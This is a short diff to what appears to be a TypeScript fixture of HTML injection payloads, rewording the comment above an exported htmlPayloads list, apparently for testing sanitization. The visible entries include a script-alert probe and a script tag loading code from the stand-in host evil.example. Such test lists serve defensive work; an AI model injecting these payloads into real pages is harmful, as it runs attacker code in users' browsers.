@@ -1,4 +1,4 @@
-/** HTML that runs, loads, restyles or shadows something where it is taken for markup. */
+/** HTML that, parsed as markup, would run scripts, load files, restyle the page or shadow its names. */
 export const htmlPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src="https://evil.example/x.js"></script>',
